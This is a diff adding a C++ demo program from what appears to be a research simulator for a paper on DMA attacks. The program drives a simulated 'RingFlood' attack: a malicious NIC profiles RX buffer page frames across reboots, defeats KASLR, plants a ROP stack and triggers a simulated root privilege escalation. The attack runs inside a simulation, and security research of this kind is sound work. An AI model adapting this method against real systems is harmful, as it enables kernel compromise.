@@ -1,0 +1,98 @@
+// RingFlood compound attack demo (§5.3, §6).
+//
+// Phase 1 (offline): "reboot" an identical machine N times and histogram the
+// PFNs of the RX-ring data pages — boot determinism makes them repeat.
+// Phase 2 (online): against a victim boot the attacker never saw, bootstrap
+// KASLR from the victim's own TX traffic, poison every RX buffer with a
+// ubuf_info + ROP stack, and let ordinary packet processing fire the callback.
+//
+//   $ ./build/examples/ringflood_attack
+
+#include <cstdio>
+
+#include "attack/attacks.h"
+#include "attack/mini_cpu.h"
+#include "core/machine.h"
+#include "device/malicious_nic.h"
+
+using namespace spv;
+using attack::RingFloodAttack;
+
+namespace {
+
+core::MachineConfig VictimConfig(uint64_t seed) {
+  core::MachineConfig config;
+  config.seed = seed;
+  config.iommu.mode = iommu::InvalidationMode::kDeferred;  // Linux default
+  return config;
+}
+
+net::NicDriver::Config DriverConfig() {
+  net::NicDriver::Config config;
+  config.name = "bcm5720";
+  config.rx_ring_size = 32;
+  config.rx_buf_len = 1728;  // i40e-style half-page buffers
+  return config;
+}
+
+
+}  // namespace
+
+int main() {
+  std::printf("== RingFlood compound attack (paper §5.3) ==\n\n");
+
+  // ---- Phase 1: profile an identical setup ------------------------------------
+  RingFloodAttack::ProfileOptions profile;
+  profile.machine = VictimConfig(0);
+  profile.driver = DriverConfig();
+  profile.boots = 32;
+  std::printf("[offline] profiling %d reboots of an identical machine...\n", profile.boots);
+  auto histogram = RingFloodAttack::ProfileRxPfns(profile);
+  const uint64_t guess = RingFloodAttack::MostCommonPfn(histogram);
+  std::printf("[offline] %zu distinct RX PFNs seen; best guess pfn=%llu "
+              "(present in %d/%d boots)\n\n",
+              histogram.size(), static_cast<unsigned long long>(guess),
+              histogram.at(guess), profile.boots);
+
+  // ---- Phase 2: attack a boot the attacker never profiled ---------------------
+  core::MachineConfig victim_config = VictimConfig(profile.base_seed + 4242);
+  core::Machine machine{victim_config};
+  attack::RingFloodAttack::ReplayBootNoise(machine, victim_config.seed,
+                                            profile.boot_noise_allocs);
+  net::NicDriver& nic = machine.AddNicDriver(profile.driver);
+  device::MaliciousNic device{device::DevicePort{machine.iommu(), nic.device_id()}};
+  device.set_warm_iotlb_on_post(true);
+  nic.AttachDevice(&device);
+  machine.stack().set_egress(&nic);
+  attack::MiniCpu cpu{machine.kmem(), machine.layout()};
+  machine.stack().set_callback_invoker(&cpu);
+  (void)nic.FillRxRing();
+
+  RingFloodAttack::Options options;
+  options.pfn_guess = guess;
+  attack::AttackEnv env{machine, nic, device, cpu};
+  auto report = RingFloodAttack::Run(env, options);
+  if (!report.ok()) {
+    std::printf("attack harness error: %s\n", report.status().ToString().c_str());
+    return 1;
+  }
+
+  std::printf("[online] attack transcript:\n");
+  for (const std::string& step : report->steps) {
+    std::printf("  - %s\n", step.c_str());
+  }
+  std::printf("\nvulnerability attributes: %s\n", report->attributes.ToString().c_str());
+  std::printf("write window used: %s\n", report->window_path.c_str());
+  std::printf("RESULT: %s\n", report->success
+                                  ? ">>> privilege escalation: commit_creds(root) executed <<<"
+                                  : "attack failed this boot (wrong PFN guess)");
+
+  if (report->success) {
+    std::printf("\nCPU execution trace of the hijacked callback:\n");
+    for (const auto& entry : cpu.trace()) {
+      std::printf("  0x%llx  %s\n", static_cast<unsigned long long>(entry.pc.value),
+                  entry.what.c_str());
+    }
+  }
+  return report->success ? 0 : 1;
+}
